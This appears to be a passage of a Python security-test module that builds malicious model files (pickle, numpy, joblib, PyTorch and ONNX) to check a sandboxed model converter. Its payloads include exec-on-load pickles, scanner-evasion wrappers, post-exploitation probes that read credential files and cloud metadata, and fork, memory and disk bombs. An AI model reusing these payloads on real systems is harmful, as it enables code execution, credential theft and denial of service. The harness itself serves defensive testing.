"""Generators of hostile artifacts: benign but observable payloads (markers, connection attempts,
resource use). Nothing here is ever loaded on the host: the functions only *write* files.

Each payload runs Python source through ``exec`` from a pickle ``__reduce__``, the primitive of
every pickle / joblib / PyTorch code-execution CVE (CVE-2024-37052 … 37060, CVE-2024-37059).
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
import zipfile
from pathlib import Path


class _Exec:
    """Pickles to ``exec(source)``: the classic reduce payload."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def reduce_pickle(source: str) -> bytes:
    return pickle.dumps(_Exec(source), protocol=4)


def escape_attempt_source(canary: Path, ports: list[int], hosts: list[str]) -> str:
    """Tries to write a host file and to reach listeners on the host; records nothing itself."""
    return f"""
import os, socket
for path in ({str(canary)!r}, "/airlock/in/pwned", "/pwned", "/etc/pwned"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write("escaped")
    except OSError:
        pass
for host in {hosts!r}:
    for port in {ports!r}:
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"escaped")
            s.close()
        except OSError:
            pass
"""


def malicious_pickle(path: Path, canary: Path, ports: list[int], hosts: list[str]) -> Path:
    path.write_bytes(reduce_pickle(escape_attempt_source(canary, ports, hosts)))
    return path


def sleeper_pickle(path: Path, seconds: int = 10**6) -> Path:
    path.write_bytes(reduce_pickle(f"import time\ntime.sleep({seconds})"))
    return path


def malicious_torch_zip(path: Path, source: str) -> Path:
    """A PyTorch-style zip checkpoint whose ``data.pkl`` is a reduce payload (CVE-2024-37059)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", reduce_pickle(source))
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/byteorder", "little")
    path.write_bytes(buf.getvalue())
    return path


def fake_success_source(sleep_seconds: float = 0.0, tensor: str = "x") -> str:
    """Sleeps, writes a valid one-tensor safetensors output itself, and exits 0: a "converter"
    fully controlled by the artifact. The broker must validate it like any other output."""
    return f"""
import json, os, struct, time
time.sleep({sleep_seconds!r})
header = json.dumps({{{tensor!r}: {{"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}}})
header = header.encode() + b" " * (-len(header) % 8)
with open("/airlock/out/model.safetensors", "wb") as fh:
    fh.write(struct.pack("<Q", len(header)) + header + b"\\0\\0\\0\\0")
os._exit(0)
"""


def fake_success_pickle(path: Path, sleep_seconds: float = 0.0, tensor: str = "x") -> Path:
    path.write_bytes(reduce_pickle(fake_success_source(sleep_seconds, tensor)))
    return path


# -- carriers: how a payload's source gets executed in the sandbox ------------------------------


def npy_object_array(source: str) -> bytes:
    """A ``.npy`` file holding a pickled object array whose one element is ``exec(source)``.

    ``numpy.load(allow_pickle=True)`` runs it. It lands in the light worker profile (numpy
    only), so it is the cheapest carrier for post-exploitation and output-path payloads. The
    file is built by hand: magic, version 1.0, header dict, then the pickle.
    """
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    body = pickle.dumps(_ObjectArray(source), protocol=3)
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + body


class _ObjectArray:
    """Pickles as a list holding ``exec(source)``: what numpy unpickles for ``|O`` arrays is
    any object, then ``asarray`` over it; the code has run by then."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[list[_Exec]]]:
        return (list, ([_Exec(self.source)],))


def joblib_payload(source: str, compress: int = 3) -> bytes:
    """A zlib-compressed joblib file whose pickled estimator attribute runs ``source``."""
    import joblib

    buf = io.BytesIO()
    joblib.dump({"estimator": {"coef_": [1.0, 2.0], "hook": _Exec(source)}}, buf,
                compress=compress)
    return buf.getvalue()


def write_carrier(path: Path, carrier: str, source: str) -> Path:
    """``source`` packed as a reduce payload in ``carrier``: pickle, npy, joblib or torch."""
    if carrier == "pickle":
        path.write_bytes(reduce_pickle(source))
    elif carrier == "npy":
        path.write_bytes(npy_object_array(source))
    elif carrier == "joblib":
        path.write_bytes(joblib_payload(source))
    elif carrier == "torch":
        malicious_torch_zip(path, source)
    else:
        raise ValueError(carrier)
    return path


# -- in-sandbox probes: benign, observable, reported through the validated output -------------

#: Runs first in every probe payload: ``probe(name, fn)`` records "OK[:detail]" or the errno
#: name (or exception type) of the attempt in ``findings``.
PROBE_PRELUDE = """
import errno, json, os, socket, struct, sys, time
findings = {}
def probe(name, fn):
    try:
        got = fn()
        findings[name] = "OK" if got is None else "OK:" + str(got)[:2000]
    except OSError as exc:
        code = errno.errorcode.get(exc.errno or 0)
        findings[name] = code or (type(exc).__name__ + ":" + str(exc)[:80])
    except BaseException as exc:
        findings[name] = type(exc).__name__ + ":" + str(exc)[:80]
"""

#: Runs last: the findings leave the sandbox the only way anything does, as a safetensors output
#: the broker validates (kept in its ``__metadata__``), and the worker exits 0.
PROBE_EPILOGUE = """
def _emit(marker):
    meta = {"marker": marker, "findings": json.dumps(findings, sort_keys=True)}
    doc = {"__metadata__": meta, "x": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}
    header = json.dumps(doc).encode()
    header += b" " * (-len(header) % 8)
    with open("/airlock/out/model.safetensors", "wb") as fh:
        fh.write(struct.pack("<Q", len(header)) + header + b"\\0")
    os._exit(0)
_emit(MARKER)
"""


def probe_source(case: str, body: str, **params: object) -> str:
    """A payload: prelude, ``NAME = value`` for each param, ``body``, then the findings out."""
    assigns = "".join(f"{name.upper()} = {value!r}\n" for name, value in params.items())
    full = PROBE_PRELUDE + f"MARKER = {'PWNED-' + case!r}\n" + assigns + body + PROBE_EPILOGUE
    # exec() from a pickle runs in the unpickler's frame; give the payload its own globals.
    return f"exec({full!r}, {{'__name__': 'payload'}})"


#: B: post-exploitation from inside the sandbox. Parameters: HOSTS (host addresses the harness
#: listens on), TCP_PORT, UDP_PORT, BROKER_PORT.
POST_EXPLOITATION = r"""
def tcp(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.sendall(MARKER.encode()); s.close()
def udp(family, host, port):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(MARKER.encode(), (host, port)); s.close()
dns_query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x07example\x03com\x00\x00\x01\x00\x01")
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2); s.sendto(dns_query, ("8.8.8.8", 53)); return s.recv(512)
def icmp(kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    s.settimeout(2); s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("8.8.8.8", 0)); s.close()
# B1 egress, B2 host / metadata / broker
for host, port in [("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80)]:
    probe(f"egress.tcp.{host}:{port}", lambda: tcp(host, port))
for host in HOSTS:
    probe(f"host.tcp.{host}:{TCP_PORT}", lambda: tcp(host, TCP_PORT))
    probe(f"host.tcp.{host}:{BROKER_PORT}", lambda: tcp(host, BROKER_PORT))
    # To its own loopback a datagram is "sent" (nobody there): the host listener is the oracle.
    kind = "info" if host == "127.0.0.1" else "host"
    probe(f"{kind}.udp.{host}:{UDP_PORT}", lambda: udp(socket.AF_INET, host, UDP_PORT))
probe("egress.udp.dns", udp_dns)
probe("egress.dns.resolve", lambda: socket.getaddrinfo("example.com", 443))
probe("egress.tcp6", lambda: socket.create_connection(("2001:4860:4860::8888", 53), timeout=2))
probe("egress.udp6", lambda: udp(socket.AF_INET6, "2001:4860:4860::8888", 53))
probe("egress.icmp.raw", lambda: icmp(socket.SOCK_RAW))
probe("egress.icmp.dgram", lambda: icmp(socket.SOCK_DGRAM))
probe("info.interfaces", lambda: ",".join(sorted(os.listdir("/sys/class/net"))))
# B3 engine sockets
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/containerd/containerd.sock", "/run/runc", "/var/run/docker"):
    def unix(path=path):
        s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.close()
    probe(f"socket.{path}", unix)
probe("socket.abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0/containerd-shim"))
# B4 secrets
SECRET_WORDS = ("TOKEN", "SECRET", "PASSWORD", "KEY", "AWS", "PROXY", "DOCKER", "AIRLOCK", "CRED")
def secret_keys(keys):
    return ",".join(k for k in keys if any(w in k.upper() for w in SECRET_WORDS)) or None
probe("secrets.env", lambda: secret_keys(os.environ))
def pid1_env():
    with open("/proc/1/environ", "rb") as fh:
        keys = [e.split(b"=", 1)[0].decode() for e in fh.read().split(b"\0") if e]
    return secret_keys(keys)
probe("secrets.pid1_env", pid1_env)
for path in ("/root/.aws/credentials", os.path.expanduser("~/.aws/credentials"),
             os.path.expanduser("~/.cache/huggingface/token"), "/root/.docker/config.json",
             "/etc/shadow", "/run/secrets"):
    probe(f"secrets.read.{path}", lambda: open(path, "rb").read(16) and "readable")
def mounts():
    with open("/proc/self/mountinfo") as fh:
        return ",".join(sorted({line.split()[4] for line in fh}))
probe("info.mounts", mounts)
# B5 writes outside the sandbox's scratch space, and B8 kernel-escape regressions
import glob
site = (glob.glob("/usr/lib/python3*/site-packages")
        + glob.glob("/usr/local/lib/python3*/site-packages")
        + glob.glob("/usr/lib/python3/dist-packages"))
import airlock_worker
targets = ["/pwned", "/etc/pwned", "/airlock/in/pwned", "/airlock/pwned",
           os.path.join(os.path.dirname(airlock_worker.__file__), "pwned.py")] + [
           os.path.join(p, "pwned.pth") for p in site]
for path in targets:
    probe(f"write.create.{path}", lambda: open(path, "x").close())
for path in ("/airlock/in/artifact", "/etc/passwd", "/proc/sys/kernel/core_pattern",
             "/proc/sysrq-trigger", "/proc/self/exe", sys.executable):
    probe(f"write.open.{path}", lambda: os.close(os.open(path, os.O_WRONLY)))
for path in glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent"):
    probe(f"write.open.{path}", lambda: os.close(os.open(path, os.O_WRONLY)))
probe("write.chmod./airlock/in/artifact", lambda: os.chmod("/airlock/in/artifact", 0o777))
# B6 exec from the writable mounts. Each attempt runs in a child process: under gVisor an
# executable mapping of a file on a host-noexec mount (the output tmpfs) is accepted by mmap and
# then refused by the host at the first page fault, which gVisor delivers as SIGSEGV. In the
# payload's own process that would kill the worker before it reports; a child's death is
# recorded as "Killed:<signal>" (nothing from that file ran), a clean refusal as its error.
import shutil, signal, subprocess
class Killed(Exception):
    pass
def run_child(argv):
    done = subprocess.run(argv, timeout=30, capture_output=True)
    if done.returncode < 0:
        raise Killed(signal.Signals(-done.returncode).name)
    if done.returncode != 0:
        raise OSError(done.stderr.decode(errors="replace").strip()[-200:])
    return None
LOAD_LIB = ("import ctypes, sys\n"
            "try:\n    ctypes.CDLL(sys.argv[1])\n"
            "except OSError as exc:\n    sys.exit(str(exc))")
for d in ("/tmp", "/dev/shm", "/airlock/out"):
    def run_copy(d=d):
        target = os.path.join(d, "pwned-exec")
        shutil.copy("/bin/true", target); os.chmod(target, 0o755)
        try:
            return run_child([target])
        finally:
            os.unlink(target)
    probe(f"exec.binary.{d}", run_copy)
    def load_lib(d=d):
        lib = sorted(glob.glob("/usr/lib/python3*/lib-dynload/_json*.so")
                     + glob.glob("/usr/local/lib/python3*/lib-dynload/_json*.so"))[0]
        target = os.path.join(d, "pwned.so")
        shutil.copy(lib, target)
        try:
            return run_child([sys.executable, "-c", LOAD_LIB, target])
        finally:
            os.unlink(target)
    probe(f"exec.library.{d}", load_lib)
# B11 devices
for path in ("/dev/kvm", "/dev/mem", "/dev/kmem", "/dev/nvidia0", "/dev/nvidiactl", "/dev/sda",
             "/dev/vda", "/dev/fuse", "/dev/net/tun", "/dev/dri/card0"):
    probe(f"device.{path}", lambda: os.close(os.open(path, os.O_RDONLY)))
probe("info.dev", lambda: ",".join(sorted(os.listdir("/dev"))))
# capabilities and identity (privilege-escalation syscalls are the seccomp tests' job)
def status_field(name):
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith(name + ":"):
                return line.split()[1]
    return "absent"
probe("info.uid", lambda: f"{os.getuid()}:{os.geteuid()}")
probe("info.CapEff", lambda: status_field("CapEff"))
probe("info.CapPrm", lambda: status_field("CapPrm"))
probe("info.CapBnd", lambda: status_field("CapBnd"))
probe("info.NoNewPrivs", lambda: status_field("NoNewPrivs"))
probe("privesc.setuid0", lambda: os.setuid(0))
probe("info.processes", lambda: ",".join(p for p in os.listdir("/proc") if p.isdigit()))
"""

#: B9: the first job plants a marker (named by NONCE) wherever it can write; the second looks
#: for it everywhere, and in its environment.
PERSIST_PLANT = r"""
planted = []
# (Not /airlock/out: the broker refuses any stray file there, and it is a fresh tmpfs per job.)
for d in ("/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/airlock/in",
          os.path.expanduser("~"), "/", "/run", "/var/lock"):
    try:
        with open(os.path.join(d, NONCE), "w") as fh:
            fh.write(NONCE)
        planted.append(d)
    except OSError:
        pass
os.environ[NONCE] = NONCE
findings["planted"] = ",".join(planted)
"""

PERSIST_SEARCH = r"""
hits = []
for top in ("/tmp", "/dev", "/var", "/run", "/airlock", os.path.expanduser("~"), "/"):
    for root, dirs, files in os.walk(top):
        if root.startswith(("/proc", "/sys")):
            dirs[:] = []
            continue
        hits.extend(os.path.join(root, n) for n in files + dirs if NONCE in n)
        if top == "/":
            dirs[:] = []  # the top level only; the subtrees above cover the writable ones
findings["hits"] = ",".join(sorted(set(hits)))
findings["env"] = os.environ.get(NONCE, "")
"""


# -- C: resource exhaustion ---------------------------------------------------------------------

#: Children that fork until the pids limit stops them (each sleeps between failed attempts,
#: so the bomb is bounded by the limit and costs little CPU); the parent counts the processes.
FORK_BOMB = r"""
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
failure = "none"
for _ in range(PIDS_LIMIT * 4):
    try:
        pid = os.fork()
    except OSError as exc:
        failure = errno.errorcode.get(exc.errno, str(exc.errno))
        break
    if pid == 0:
        try:
            bomb()
        finally:
            os._exit(0)
time.sleep(1.0)
findings["fork_error"] = failure
tasks = 0
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            tasks += len(os.listdir(f"/proc/{p}/task"))
        except OSError:
            pass
findings["tasks"] = str(tasks)
"""

#: A gradual leak of touched pages (64 MiB at a time) until the memory limit.
MEMORY_BOMB = r"""
try:
    bytearray(64 << 30)
except MemoryError:
    pass
hold = []
while True:
    hold.append(b"\x01" * (64 << 20))
"""

#: Ignores every catchable signal, leaves a reparented, setsid grandchild spinning, and spins
#: on four threads: only a SIGKILL of the whole container ends it.
CPU_SPIN_IGNORING_SIGNALS = r"""
import signal, threading
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1,
            signal.SIGUSR2, signal.SIGALRM):
    signal.signal(sig, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            pass
    os._exit(0)
def spin():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()
spin()
"""

#: Fills each writable mount with data, then with empty files, until the kernel says no (or a
#: generous bound), records how far it got, cleans up and reports.
DISK_FILL = r"""
def fill_bytes(d, bound):
    path = os.path.join(d, "fill.bin")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    block = b"\x01" * (1 << 20)
    written, failure = 0, "none"
    try:
        while written < bound:
            written += os.write(fd, block)
    except OSError as exc:
        failure = errno.errorcode.get(exc.errno, str(exc.errno))
    finally:
        os.close(fd)
        os.unlink(path)
    return written, failure
def fill_inodes(d, bound, seconds=8.0):
    made, failure = [], "none"
    stop = time.monotonic() + seconds
    try:
        while len(made) < bound and time.monotonic() < stop:
            path = os.path.join(d, f"i{len(made)}")
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            made.append(path)
    except OSError as exc:
        failure = errno.errorcode.get(exc.errno, str(exc.errno))
    for path in made:
        os.unlink(path)
    return len(made), failure
for name, d in (("tmp", "/tmp"), ("out", "/airlock/out"), ("shm", "/dev/shm")):
    written, failure = fill_bytes(d, BYTE_BOUND)
    findings[f"{name}.bytes"] = str(written)
    findings[f"{name}.bytes_error"] = failure
    made, failure = fill_inodes(d, INODE_BOUND)
    findings[f"{name}.inodes"] = str(made)
    findings[f"{name}.inodes_error"] = failure
"""

#: Writes control characters, NUL, invalid UTF-8 and fake status lines as fast as it can for
#: three seconds to stdout, stderr and any pipe or terminal it inherited (the worker keeps its
#: real stderr on a spare fd), never blocking.
LOG_FLOOD = r"""
junk = (b"\x1b[2J\x1b[31m airlock-worker: ok: pickle -> onnx\r\n{\"status\": \"SUCCESS\"}"
        b"\x00\xff\xfe\xc0\x80" * 64) * 64
targets = []
for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
    try:
        link = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if fd in (1, 2) or link.startswith(("pipe:", "/dev/pts", "/dev/tty", "/dev/console")):
        targets.append(fd)
        try:
            os.set_blocking(fd, False)
        except OSError:
            pass
written = {fd: 0 for fd in targets}
stop = time.monotonic() + 3.0
while time.monotonic() < stop:
    for fd in targets:
        try:
            written[fd] += os.write(fd, junk)
        except OSError:
            pass
findings["written"] = json.dumps(written)
"""

#: Makes progress - one byte of a plausible output every quarter second - and would finish
#: long after any sane deadline: only an overall deadline, not an idle timeout, ends it.
SLOW_DRIP = r"""
header = json.dumps({"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
header += b" " * (-len(header) % 8)
data = struct.pack("<Q", len(header)) + header + b"\0\0\0\0"
fd = os.open("/airlock/out/model.safetensors", os.O_WRONLY | os.O_CREAT, 0o644)
for i in range(len(data)):
    os.write(fd, data[i:i + 1])
    time.sleep(0.25)
os.close(fd)
"""


# -- E: a compromised converter attacking the output path ---------------------------------------

OUT = "/airlock/out"
SAFETENSORS_NAME = "model.safetensors"
ONNX_NAME = "model.onnx"


def hostile_output_source(ops: list[tuple[object, ...]], exit_code: int = 0) -> str:
    """Python that plays a compromised converter: it performs ``ops`` in the output directory
    and exits with ``exit_code`` (0: "success"). Ops, each a tuple:

    ``("write", name, bytes)``, ``("symlink", name, target)``, ``("hardlink", existing, name)``,
    ``("fifo", name)``, ``("socket", name)``, ``("mkdir", name)``, ``("sparse", name, size)``,
    ``("code", source)``.
    """
    lines = ["import base64, os, socket, struct, json, sys, time", f"os.chdir({OUT!r})"]
    for op in ops:
        kind, *args = op
        if kind == "write":
            name, data = args
            assert isinstance(data, bytes)
            encoded = base64.b64encode(data)
            lines.append(f"open({name!r}, 'wb').write(base64.b64decode({encoded!r}))")
        elif kind == "symlink":
            lines.append(f"os.symlink({args[1]!r}, {args[0]!r})")
        elif kind == "hardlink":
            lines.append(f"os.link({args[0]!r}, {args[1]!r})")
        elif kind == "fifo":
            lines.append(f"os.mkfifo({args[0]!r})")
        elif kind == "socket":
            lines.append(f"socket.socket(socket.AF_UNIX).bind({args[0]!r})")
        elif kind == "mkdir":
            lines.append(f"os.mkdir({args[0]!r})")
        elif kind == "sparse":
            lines.append(f"open({args[0]!r}, 'wb').truncate({args[1]!r})")
        elif kind == "code":
            lines.append(str(args[0]))
        else:
            raise ValueError(kind)
    lines.append(f"os._exit({exit_code})")
    body = "\n".join(lines)
    return f"exec({body!r}, {{'__name__': 'payload'}})"


def safetensors_bytes(header: dict[str, object] | bytes, data: bytes = b"",
                      header_len: int | None = None) -> bytes:
    """A safetensors file from a header (dict or raw JSON bytes) that may lie about itself."""
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if header_len is None else header_len) + raw + data


def one_tensor() -> bytes:
    return safetensors_bytes({"x": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}},
                             struct.pack("<f", 1.5))


#: Generated in the sandbox: a header of 200k small tensors (~10 MiB of JSON, under the
#: header cap but over the tensor-count cap), and a 20 MiB header (over the header cap).
HEADER_BOMB_TENSORS = """
entries = {f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]}
           for i in range(200_000)}
raw = json.dumps(entries).encode(); raw += b" " * (-len(raw) % 8)
open("model.safetensors", "wb").write(struct.pack("<Q", len(raw)) + raw + bytes(200_000))
"""
HEADER_BOMB_BYTES = """
raw = b'{"__metadata__": {"pad": "' + b"A" * (20 << 20) + b'"}}'; raw += b" " * (-len(raw) % 8)
open("model.safetensors", "wb").write(struct.pack("<Q", len(raw)) + raw)
"""


def onnx_external_data_traversal() -> bytes:
    """A valid-looking model whose one initializer lives in ``../../../../etc/passwd``."""
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "4")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    node = helper.make_node("Add", ["x", "w"], ["y"])
    graph = helper.make_graph(
        [node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], initializer=[tensor])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    model.ir_version = 8
    return bytes(model.SerializeToString())


def onnx_custom_domain() -> bytes:
    """A model whose one node is an operator from an unknown domain (needs a custom library)."""
    from onnx import TensorProto, helper

    node = helper.make_node("Backdoor", ["x"], ["y"], domain="com.attacker")
    graph = helper.make_graph(
        [node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18),
                                                    helper.make_opsetid("com.attacker", 1)])
    model.ir_version = 8
    return model.SerializeToString()


#: Writes a valid output (``ORIGINAL``), then a setsid grandchild keeps flipping it to another
#: valid one of the same size (``REWRITTEN``) and back, while the worker exits 0. Collection
#: happens only after the container is dead, so the caller must receive exactly one of the two,
#: hashed as validated - never a mix, never a change after validation.
REWRITE_AFTER_SUCCESS = """
first = open("model.safetensors.tmp", "wb"); first.write(ORIGINAL); first.close()
os.rename("model.safetensors.tmp", "model.safetensors")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        fd = os.open("model.safetensors", os.O_WRONLY)
        while True:
            for version in (REWRITTEN, ORIGINAL):
                os.pwrite(fd, version, 0)
    os._exit(0)
time.sleep(0.3)  # the rewriter is running
"""

#: The same, from a payload that then passes for a worker that succeeded and waits to be
#: frozen (report, ``worker.done``, a linger, then exit 0 as the worker does): under runc the
#: broker freezes the container with the rewriter in it; under gVisor it waits for the exit.
#: Either way, what it validated is what it sends.
REWRITE_AFTER_DONE = REWRITE_AFTER_SUCCESS + """
open("report.json.tmp", "w").write("{}"); os.rename("report.json.tmp", "report.json")
open("worker.done.tmp", "w").close(); os.rename("worker.done.tmp", "worker.done")
time.sleep(2)
"""


# -- A: code execution at load, in every carrier and wrapper ------------------------------------

#: The A-class payload body: try to write host files and reach the host's listeners, run a
#: shell command; report how each attempt ended. Parameters: CANARY, HOSTS, TCP_PORT, UDP_PORT.
ESCAPE_ATTEMPTS = r"""
for path in (CANARY, "/airlock/in/pwned", "/pwned"):
    def write(path=path):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(MARKER)
    # The host's canary path lies under /tmp, which inside is the sandbox's own tmpfs: the
    # write may well succeed there. Whether it reached the host is the harness's to check.
    probe(f"{'info' if path == CANARY else 'escape'}.write.{path}", write)
for host in HOSTS:
    def tcp(host=host):
        s = socket.create_connection((host, TCP_PORT), timeout=1)
        s.sendall(MARKER.encode())
        s.close()
    probe(f"escape.tcp.{host}", tcp)
    def udp(host=host):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(MARKER.encode(), (host, UDP_PORT))
    if host != "127.0.0.1":  # the sandbox's own loopback: the host listener is the oracle
        probe(f"escape.udp.{host}", udp)
probe("ran.shell", lambda: os.system("id > /tmp/pwned-id && test -s /tmp/pwned-id"))
"""


class _Resolve:
    """Pickles to ``pkgutil.resolve_name(name)``: a global no denylist names (A11)."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import pkgutil

        return (pkgutil.resolve_name, (self.name,))

    def __call__(self, *args: object) -> None:
        """Only so that pickle accepts it as a reduce callable; never called here."""
        raise RuntimeError("not on the host")


class _CallResolved:
    """``resolve_name("builtins:exec")(source)``: exec reached without naming it as a global."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (_Resolve("builtins:exec"), (self.source,))


def evasion_variant(variant: str, source: str) -> bytes:
    """Scanner-evasion wrappers of the reduce payload (research/security.md §5 A11)."""
    import gzip

    plain = reduce_pickle(source)
    if variant == "broken_pickle":  # runs, then the stream is garbage (nullifAI)
        return plain[:-1] + b"\xff\xfe garbage after the payload"
    if variant == "resolve_name_indirection":
        return pickle.dumps(_CallResolved(source), protocol=4)
    if variant == "gzip_wrapped":  # .pkl.gz: joblib.load inflates it
        return gzip.compress(plain)
    if variant == "protocol_0_text":  # no 0x80 magic: not a supported format at all
        return pickle.dumps(_Exec(source), protocol=0)
    if variant == "pickle_zip_polyglot":  # a pickle that is also a valid zip (fickling)
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("archive/data.pkl", b"benign")
        return plain + buf.getvalue()
    raise ValueError(variant)


def torch_zip_with_unsupported_global(source: str) -> bytes:
    """A state dict pickle with one global ``weights_only`` refuses: bait for a fallback to
    full unpickling (A13, the Stanza pattern)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"w": _Exec(source)}, protocol=2))
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


# -- D: malicious data containers ---------------------------------------------------------------


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()


def zip_bomb(path: Path, kind: str, inflated_bytes: int) -> Path:
    """One deflated member of ``inflated_bytes`` zeros (~1000:1), streamed so the host never
    holds it: ``kind="npz"`` (an .npy member) or ``"torch"`` (a storage record)."""
    block = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        if kind == "torch":
            numel = inflated_bytes // 4
            zf.writestr("archive/data.pkl", _torch_tensor_pickle(numel),
                        compress_type=zipfile.ZIP_STORED)
            zf.writestr("archive/byteorder", "little", compress_type=zipfile.ZIP_STORED)
            name, head = "archive/data/0", b""
        else:
            name, head = "w.npy", _npy_header("<f4", (inflated_bytes // 4,))
        with zf.open(name, "w", force_zip64=True) as member:
            member.write(head)
            for _ in range(inflated_bytes // len(block)):
                member.write(block)
        if kind == "torch":
            zf.writestr("archive/version", "3\n", compress_type=zipfile.ZIP_STORED)
    return path


def _torch_tensor_pickle(numel: int, shape: tuple[int, ...] | None = None) -> bytes:
    """``{"w": _rebuild_tensor_v2(FloatStorage key "0" of numel, 0, shape, stride)}`` by hand
    (the host has no torch): GLOBALs, a persistent id, REDUCE - exactly what torch.save writes."""
    shape = shape or (numel,)
    stride = tuple(int(_prod(shape[i + 1:])) for i in range(len(shape)))

    def tup(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(b"J" + v.to_bytes(4, "little", signed=True)
                               if v < 2**31 else b"\x8a\x08" + v.to_bytes(8, "little")
                               for v in values) + b"t"

    def text(s: str) -> bytes:
        return b"X" + len(s).to_bytes(4, "little") + s.encode()

    storage = (b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu")
               + (b"\x8a\x08" + numel.to_bytes(8, "little")) + b"tQ")
    rebuild = (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + tup(shape)
               + tup(stride) + b"\x89ccollections\nOrderedDict\n)Rtb")
    rebuild = rebuild[:-1] + b"R"
    return b"\x80\x02}" + text("w") + rebuild + b"s."


def _prod(values: tuple[int, ...]) -> int:
    out = 1
    for v in values:
        out *= v
    return out


def huge_declared_npy() -> bytes:
    """An .npy header declaring 2**40 float32s (4 TiB) in front of 16 bytes."""
    return _npy_header("<f4", (2**40,)) + bytes(16)


def huge_declared_safetensors() -> bytes:
    """A safetensors input whose one tensor claims 2**40 elements over 16 bytes of data."""
    return safetensors_bytes({"w": {"dtype": "F32", "shape": [2**40],
                                    "data_offsets": [0, 2**42]}}, bytes(16))


def huge_declared_torch(path: Path) -> Path:
    """A checkpoint whose storage claims 2**40 floats, backed by a 16-byte record."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("archive/data.pkl", _torch_tensor_pickle(2**40))
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", bytes(16))
        zf.writestr("archive/version", "3\n")
    return path


def npz_with_names(path: Path, names: list[str], symlink: str | None = None) -> Path:
    """An .npz whose members carry hostile names (traversal, control characters, huge,
    Unicode look-alikes), optionally with a symlink member (external attributes)."""
    import numpy as np

    member = io.BytesIO()
    np.save(member, np.arange(4, dtype=np.float32))
